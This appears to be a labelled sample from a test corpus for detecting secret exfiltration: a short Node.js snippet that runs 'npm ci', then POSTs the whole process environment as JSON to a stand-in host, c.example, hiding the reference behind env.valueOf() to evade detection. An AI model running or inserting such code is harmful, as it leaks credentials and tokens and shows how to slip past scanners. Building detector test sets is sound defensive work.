// evasion: the child's env sent as env.valueOf(), the same object
// grade: medium; does: env-out
const { spawnSync } = require("child_process");
const env = { ...process.env, CI: "1" };
spawnSync("npm", ["ci"], { env });
const same = env.valueOf();
fetch("https://c.example/in", { method: "POST", body: JSON.stringify(same) });
